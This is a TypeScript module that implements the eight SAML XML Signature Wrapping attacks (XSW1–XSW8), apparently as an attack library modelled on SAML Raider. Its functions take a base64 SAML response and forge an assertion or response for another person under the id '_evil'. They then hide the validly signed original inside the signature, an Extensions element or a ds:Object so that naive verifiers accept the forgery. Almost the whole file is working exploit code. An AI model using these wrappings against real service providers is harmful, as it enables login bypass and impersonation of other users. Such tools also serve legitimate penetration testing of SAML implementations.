import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

/** The parts of a signed response that are moved about. */
interface Parts {
  document: Document;
  response: Element;
  assertion: Element;
  /** Of the assertion, or of the response where that one is signed. */
  signature: Element;
}

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const first = (root: Document | Element, name: string): Element =>
  Array.from(root.getElementsByTagNameNS('*', name))[0]!;

function partsOf(xml: string): Parts {
  const document = parse(xml);
  const response = document.documentElement;
  return {
    document,
    response,
    assertion: first(response, 'Assertion'),
    signature: Array.from(response.getElementsByTagNameNS(SIGNATURE, 'Signature'))[0]!,
  };
}

/** A copy that says what the attacker likes: another person, under another id, unsigned. */
function forged(element: Element, forge: (xml: string) => string): Element {
  const xml = forge(new XMLSerializer().serializeToString(element)).replace(/ ID="[^"]*"/, ' ID="_evil"');
  const copy = parse(xml).documentElement;
  for (const signature of Array.from(copy.getElementsByTagNameNS(SIGNATURE, 'Signature'))) {
    signature.parentNode!.removeChild(signature);
  }
  return copy;
}

/** A copy without its signature, as it was signed. */
function unsigned(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  for (const signature of Array.from(copy.getElementsByTagNameNS(SIGNATURE, 'Signature'))) {
    signature.parentNode!.removeChild(signature);
  }
  return copy;
}

type Wrap = (parts: Parts, forge: (xml: string) => string) => Document;

/**
 * The eight ways of signature wrapping (Somorovsky and others, On Breaking SAML, 2012; numbered as in SAML Raider): what was signed
 * still is in the document and its signature is right, but it is not where a careless reader takes the assertion from.
 */
export const WRAPPINGS: Record<string, { signs: 'Assertion' | 'Response'; wrap: Wrap }> = {
  'XSW1: a forged response around, the signed one in the signature': {
    signs: 'Response',
    wrap: ({ document, response, signature }, forge) => {
      const evil = forged(response, forge);
      const original = unsigned(response);
      const moved = signature.cloneNode(true) as Element;
      moved.appendChild(original);
      evil.insertBefore(moved, evil.firstChild);
      document.replaceChild(evil, response);
      return document;
    },
  },
  'XSW2: a forged response around, the signed one before the signature': {
    signs: 'Response',
    wrap: ({ document, response, signature }, forge) => {
      const evil = forged(response, forge);
      evil.insertBefore(signature.cloneNode(true), evil.firstChild);
      evil.insertBefore(unsigned(response), evil.firstChild);
      document.replaceChild(evil, response);
      return document;
    },
  },
  'XSW3: a forged assertion before the signed one': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion }, forge) => {
      response.insertBefore(forged(assertion, forge), assertion);
      return document;
    },
  },
  'XSW4: a forged assertion around the signed one': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion }, forge) => {
      const evil = forged(assertion, forge);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      return document;
    },
  },
  'XSW5: a forged assertion with the signature, the signed one after it': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion, signature }, forge) => {
      const evil = forged(assertion, forge);
      const original = unsigned(assertion);
      evil.insertBefore(signature, evil.firstChild);
      response.replaceChild(evil, assertion);
      response.appendChild(original);
      return document;
    },
  },
  'XSW6: a forged assertion with the signature, the signed one in the signature': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion, signature }, forge) => {
      const evil = forged(assertion, forge);
      const original = unsigned(assertion);
      evil.insertBefore(signature, evil.firstChild);
      signature.appendChild(original);
      response.replaceChild(evil, assertion);
      return document;
    },
  },
  'XSW7: a forged assertion, the signed one in extensions': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion }, forge) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      const evil = forged(assertion, forge);
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      response.insertBefore(extensions, evil);
      return document;
    },
  },
  'XSW8: a forged assertion with the signature, the signed one in an object of it': {
    signs: 'Assertion',
    wrap: ({ document, response, assertion, signature }, forge) => {
      const object = document.createElementNS(SIGNATURE, 'ds:Object');
      const evil = forged(assertion, forge);
      const original = unsigned(assertion);
      evil.insertBefore(signature, evil.firstChild);
      object.appendChild(original);
      signature.appendChild(object);
      response.replaceChild(evil, assertion);
      return document;
    },
  },
};

/** @param response in base64 @returns the same, wrapped */
export function wrapped(response: string, wrap: Wrap, forge: (xml: string) => string): string {
  const document = wrap(partsOf(Buffer.from(response, 'base64').toString()), forge);
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64');
}
